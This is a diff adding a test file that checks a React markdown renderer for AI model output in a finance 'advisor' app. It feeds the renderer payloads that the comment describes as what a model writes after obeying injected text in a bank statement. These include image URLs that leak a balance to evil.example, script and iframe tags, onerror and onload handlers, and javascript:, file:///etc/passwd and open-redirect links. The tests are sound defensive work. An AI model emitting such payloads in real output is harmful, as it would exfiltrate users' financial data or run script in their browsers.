@@ -1,0 +1,69 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { Router } from "wouter";
+import { describe, expect, it } from "vitest";
+import ModelText from "./markdown.tsx";
+
+const rendered = (text: string) =>
+  renderToStaticMarkup(
+    <Router ssrPath="/advisor">
+      <ModelText text={text} />
+    </Router>,
+  );
+
+/** What a model writes that obeys whoever printed a statement's lines. */
+const HOSTILE = [
+  "![balance](https://evil.example/pixel.png?balance=15368.82)",
+  "![a][b]\n\n[b]: https://evil.example/pixel.png",
+  '<img src="https://evil.example/x.png" onerror="alert(1)">',
+  "<script>fetch('https://evil.example')</script>",
+  "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
+  "<style>@import 'https://evil.example/x.css'</style>",
+  '<a href="javascript:alert(1)">bank</a> <form action="https://evil.example"><input></form>',
+  "<svg onload=alert(1)><image href='https://evil.example/x.png'/></svg>",
+  "| a |\n|---|\n| ![x](https://evil.example/cell.png) |",
+  "[![x](https://evil.example/nested.png)](/entries)",
+];
+
+describe("what a model wrote", () => {
+  it("loads nothing from anywhere", () => {
+    for (const text of HOSTILE) {
+      const html = rendered(text);
+      expect(html, text).not.toMatch(
+        /<(img|script|iframe|object|embed|style|link|form|input|svg|image|video|audio|source|base|meta)\b/i,
+      );
+      expect(html, text).not.toMatch(/\s(src|srcset|style|on\w+|action|data|poster|background)=/i);
+    }
+  });
+
+  it("runs nothing when a link is opened", () => {
+    for (const scheme of [
+      "javascript:alert(1)",
+      "JaVaScRiPt:alert(1)",
+      "data:text/html,x",
+      "vbscript:x",
+      "file:///etc/passwd",
+    ]) {
+      expect(rendered(`[refund](${scheme})`), scheme).not.toMatch(/href="[a-z]+:/i);
+    }
+  });
+
+  it("marks every link that leaves, and takes none that leaves for one of its own", () => {
+    const away = rendered("[refund](https://evil.example/?q=1)");
+    expect(away).toContain('rel="noopener noreferrer nofollow"');
+    expect(away).toContain('class="hint"');
+    for (const target of ["//evil.example", "/\\evil.example", "/%09/evil.example"]) {
+      const html = rendered(`[own](${target})`);
+      const href = /href="([^"]*)"/.exec(html)?.[1] ?? "";
+      const origin = new URL(href, "https://saldo.example").origin;
+      expect(origin === "https://saldo.example" || html.includes("nofollow"), html).toBe(true);
+    }
+    expect(rendered("[own](/entries?from=2026-01-01)")).not.toContain("nofollow");
+  });
+
+  it("keeps plain figures, lists and tables", () => {
+    const html = rendered("You spent **1,180.00 EUR**.\n\n- Rent\n\n| a | b |\n|---|---|\n| 1 | 2 |");
+    expect(html).toContain("<strong>1,180.00 EUR</strong>");
+    expect(html).toContain("<li>Rent</li>");
+    expect(html).toContain("<table>");
+  });
+});
